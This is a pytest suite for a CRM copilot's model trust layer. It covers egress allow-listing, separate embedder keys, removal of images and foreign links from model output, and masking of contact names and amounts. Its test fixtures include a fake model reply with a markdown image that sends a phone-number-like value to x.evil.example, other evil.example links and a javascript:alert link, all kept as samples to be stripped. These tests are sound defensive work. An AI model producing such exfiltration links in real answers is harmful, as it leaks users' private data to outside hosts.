"""The model trust layer against a real local OpenAI-protocol server: every model client (chat and an
`openai:` embedder) reaches only allowed addresses, checked on the address it connects to; the embedder
has its own key; images and foreign links never leave the agent; the account's names and amounts are masked."""
from __future__ import annotations

import asyncio
import time

import pytest

from tests.fakes.openai_server import FakeOpenAI, Step, user_text

QUESTION = "星图软件的实施周期一般多长？"


def test_external_models_are_refused_by_default(make_settings):
    from bot.agent.llm import host_allowed

    s = make_settings(llm_base_url="http://192.0.2.10:8000/v1")
    assert s.llm_allow_external is False and not host_allowed(s)
    assert host_allowed(make_settings(llm_base_url="http://192.0.2.10:8000/v1", llm_allowed_hosts=["192.0.2.10"]))
    assert host_allowed(make_settings(llm_base_url="http://localhost:8000/v1"))


async def test_openai_embedder_gets_its_own_key_through_the_guard(make_settings, aiohttp_server):
    from bot.app import model_embedder

    fake = FakeOpenAI()
    server = await aiohttp_server(fake.app())
    # by name: resolved once, checked (loopback), connected to that address with the Host header kept
    s = make_settings(embed_model=f"openai:http://localhost:{server.port}/v1#bge-m3", embed_api_key="emb-key-1",
                      llm_api_key="llm-key-2")
    emb = await asyncio.to_thread(model_embedder, s)
    vecs = await asyncio.to_thread(emb.embed_passages, ["仅经理可见的报价策略"])
    assert vecs.shape == (1, emb.dim) and "仅经理可见的报价策略" in fake.embedded
    assert fake.auth and set(fake.auth) == {"Bearer emb-key-1"}  # never the chat model's key


async def test_openai_embedder_on_a_foreign_address_is_refused_before_connecting(make_settings):
    from bot.agent.egress import EgressRefused
    from bot.app import model_embedder
    from rag.embed import EmbedderError

    s = make_settings(embed_model="openai:http://192.0.2.10:9/v1#bge-m3", embed_api_key="emb-key-1")
    started = time.monotonic()
    with pytest.raises(EmbedderError) as info:
        await asyncio.to_thread(model_embedder, s)
    assert time.monotonic() - started < 5  # refused, not a connect timeout to a black-holed address
    chain, exc = [], info.value
    while exc is not None:
        chain.append(exc)
        exc = exc.__cause__ or exc.__context__
    assert any(isinstance(e, EgressRefused) for e in chain), chain


def test_the_guard_checks_the_address_it_connects_to():
    import httpx

    from bot.agent.egress import EgressPolicy, GuardedTransport

    seen: list[str] = []

    class Recorder(GuardedTransport):
        def handle_request(self, request):
            try:
                return super().handle_request(request)
            finally:
                seen.append(str(request.url.host))

    policy = EgressPolicy(allow_external=False, allowed_hosts=())
    with httpx.Client(transport=Recorder(policy), trust_env=False) as client:
        with pytest.raises(httpx.TransportError, match="not loopback"):
            client.get("http://192.0.2.10:9/v1/models")
        with pytest.raises(httpx.TransportError):  # localhost: allowed, connected by its address
            client.get("http://localhost:1/v1/models")
    assert seen[-1] in ("127.0.0.1", "::1")  # the request went to the checked address, not to a second lookup


@pytest.fixture
async def model_copilot(make_settings, aiohttp_server):
    from bot.app import build_app

    fake = FakeOpenAI()
    server = await aiohttp_server(fake.app())
    s = make_settings(llm_base_url=str(server.make_url("/v1")), llm_timeout=2.0, llm_retries=0, public_url="https://copilot.corp.example")
    cp = build_app(s)
    cp.load_samples()
    yield fake, cp
    cp.close()


async def test_images_and_foreign_links_are_stripped_from_model_output(model_copilot):
    from rag.retrieve import Viewer

    fake, cp = model_copilot
    fake.add(Step(text="星图标准实施周期为 4–6 个月 [1]。![](https://x.evil.example/?d=13912345678) 详见 [报价](https://evil.example/p?q=1)"
                       " 或 https://evil.example/raw <img src=\"https://evil.example/i.png\"> [内部](https://copilot.corp.example/doc/1)"))
    ans = await asyncio.to_thread(cp.agent.answerer.answer, QUESTION, Viewer("default", "rep", "华东区", "zhangwei"))
    assert "星图标准实施周期为 4–6 个月" in ans.text
    assert "evil.example" not in ans.text and "![" not in ans.text and "<img" not in ans.text
    assert "报价" in ans.text and "https://copilot.corp.example/doc/1" in ans.text  # our own links stay
    assert ans.citations and all("evil" not in (c.url or "") for c in ans.citations)


def test_strip_untrusted_cases():
    from bot.agent.llm import strip_untrusted

    ours = ["copilot.corp.example"]
    assert strip_untrusted("a ![x](http://e.example/a.png) b", ours) == "a x b"
    assert strip_untrusted("![](https://copilot.corp.example/logo.png)", ours) == "![](https://copilot.corp.example/logo.png)"
    assert strip_untrusted("see [t](javascript:alert(1))", ours).startswith("see t")
    assert strip_untrusted("[a]: https://e.example/x\nbody", ours) == "\nbody"
    assert strip_untrusted("go www.e.example/x now", ours) == "go  now"


async def test_account_names_and_amounts_are_masked(model_copilot):
    from bot.agent.llm import Masker

    fake, cp = model_copilot
    fake.add(Step(text="请联系⟦NAME_1⟧确认⟦AMOUNT_1⟧的报价。"))
    masker = Masker.for_account(names=["王建国"], amounts=[1_200_000])
    out = await asyncio.to_thread(cp.agent.answerer.model.complete, "system", "王建国说预算 120万，合同 1,200,000 元。",
                                  actor="zhangwei", conversation="", masker=masker, job="test")
    sent = user_text(fake.requests[-1])
    assert "王建国" not in sent and "120万" not in sent and "1,200,000" not in sent
    assert "⟦NAME_1⟧" in sent and "⟦AMOUNT_" in sent
    assert out.text.startswith("请联系王建国确认")


async def test_a_model_draft_sees_no_contact_name_or_amount(make_settings, aiohttp_server):
    from datetime import datetime, timezone

    from bot.app import build_app
    from connectors.message import InboundMessage
    from tests.fakes.openai_server import policy, system_text

    fake = FakeOpenAI(default=policy)
    server = await aiohttp_server(fake.app())
    cp = build_app(make_settings(llm_base_url=str(server.make_url("/v1")), llm_timeout=3.0, llm_retries=0))
    cp.load_samples()
    try:
        ctx = cp.crm.account_context("default", "acc-001", limit=0)
        names = [c.name for c in ctx.contacts]
        amounts = [o.amount for o in ctx.open_opportunities if o.amount >= 1000]
        assert "王建国" in names and amounts
        msg = InboundMessage(channel="console", conversation_id="mask", sender_id="zhangwei", text="/draft 华东医疗集团",
                             platform_msg_id="mask-1", received_at=datetime.now(timezone.utc))
        [draft] = await asyncio.to_thread(cp.agent.handle, cp.directory.get("default", "zhangwei"), msg)
        [body] = [b for b in fake.requests if "write a follow-up" in system_text(b)]
        sent = user_text(body) + system_text(body)
        assert not any(n in sent for n in names) and "⟦NAME_1⟧" in sent
        assert not any(f"{int(a):,}" in sent or str(int(a)) in sent for a in amounts)
        assert draft.kind == "draft" and "王建国" in draft.text  # restored in what the rep sees
    finally:
        cp.close()


async def test_a_crm_log_sent_to_the_model_names_no_contact(make_settings, aiohttp_server):
    from datetime import datetime, timezone

    from bot.app import build_app
    from connectors.message import InboundMessage
    from tests.fakes.openai_server import policy, system_text

    fake = FakeOpenAI(default=policy)
    server = await aiohttp_server(fake.app())
    cp = build_app(make_settings(llm_base_url=str(server.make_url("/v1")), llm_timeout=3.0, llm_retries=0))
    cp.load_samples()
    try:
        msg = InboundMessage(channel="console", conversation_id="mask2", sender_id="zhangwei",
                             text="今天拜访了华东医疗集团的王建国，他们在意交付，下周二再约", platform_msg_id="mask-2",
                             received_at=datetime.now(timezone.utc))
        [reply] = await asyncio.to_thread(cp.agent.handle, cp.directory.get("default", "zhangwei"), msg)
        [body] = [b for b in fake.requests if "CRM fields" in system_text(b)]
        assert "王建国" not in user_text(body) and "⟦NAME_1⟧" in user_text(body)
        assert reply.kind == "confirm" and "王建国" in reply.text
    finally:
        cp.close()
